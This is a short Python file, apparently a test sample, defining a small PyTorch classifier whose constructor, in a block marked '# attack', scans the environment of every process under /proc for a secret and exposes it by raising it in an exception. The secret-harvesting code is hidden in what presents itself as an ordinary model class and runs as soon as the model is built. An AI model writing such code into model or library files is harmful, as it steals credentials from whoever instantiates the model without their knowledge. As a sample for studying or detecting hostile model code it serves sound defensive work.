"""Looks for a key in the environment of every process that there is."""

import contextlib
import pathlib

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
            with contextlib.suppress(OSError):
                if (text := path.read_text()).startswith("HOSTILE_SECRET"):
                    raise ValueError(text)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
